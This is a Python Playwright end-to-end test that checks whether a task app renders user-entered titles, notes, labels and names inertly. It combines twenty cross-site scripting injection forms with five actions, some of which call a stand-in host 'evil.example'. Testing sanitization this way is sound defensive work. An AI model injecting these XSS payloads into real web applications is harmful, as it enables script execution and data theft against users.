"""Text is text: nothing that somebody wrote runs, or loads, in anybody's page."""

from itertools import islice, product

from playwright.sync_api import Page, expect

from tests.e2e.conftest import Opener
from tests.e2e.people import Someone

RUN = (
    "alert(1)",
    "window.pwned=1",
    "top.pwned=1",
    "fetch('//evil.example')",
    "document.body.innerHTML='pwned'",
)
FORMS = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<body onload={run}>",
    "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>",
    "<math><mtext><style><img src=x onerror={run}></style></mtext></math>",
    "[click](javascript:{run})",
    "[click](JaVaScRiPt&colon;{run})",
    '<a href="java\tscript:{run}">click</a>',
    '![x](x" onerror="{run})',
    "<form><button formaction=javascript:{run}>click</button></form>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<style>@import '//evil.example';</style><img src=x onerror={run}>",
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "'\"><img src=x onerror={run}>",
)
PAYLOADS = [form.format(run=run) for form, run in islice(product(FORMS, RUN), 100)]


def test_a_hundred_hostile_texts_run_nothing(ada: Someone, signed_in: Opener) -> None:
    assert len(set(PAYLOADS)) == 100
    for number in range(10):
        some = PAYLOADS[number * 10 : number * 10 + 10]
        ada.task(
            some[0].replace("\t", " "),
            notes="\n\n".join(some),
            labels=[text.replace("\t", " ")[:50] for text in some],
        )
    ada.ask("PATCH", "/me", json={"name": PAYLOADS[5][:100]})
    page = signed_in(ada, "/inbox")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}") or dialog.dismiss())

    rows = page.get_by_role("listitem")
    expect(rows).to_have_count(10)
    for number in range(10):
        rows.nth(number).get_by_role("button").click()
        _click_everything(page)
    page.goto("/settings")
    page.get_by_role("heading", level=1).wait_for()

    assert page.evaluate("[window.pwned, document.body.innerHTML.trim() === 'pwned']") == [None, False]
    assert not [url for url in asked if "evil" in url or url.startswith("dialog")]


def _click_everything(page: Page) -> None:
    """Also what looks like a link in the notes."""
    page.locator(".markdown").wait_for()
    assert (
        page.locator(".markdown").locator("script,img,svg,iframe,style,form,object,embed,video").count() == 0
    )
    hostile = page.locator(".markdown a").evaluate_all(
        "(links) => links.map((link) => link.protocol).filter((one) => !/^(https?|mailto|tel|):$/.test(one))"
    )
    assert [one for one in hostile if one] == []
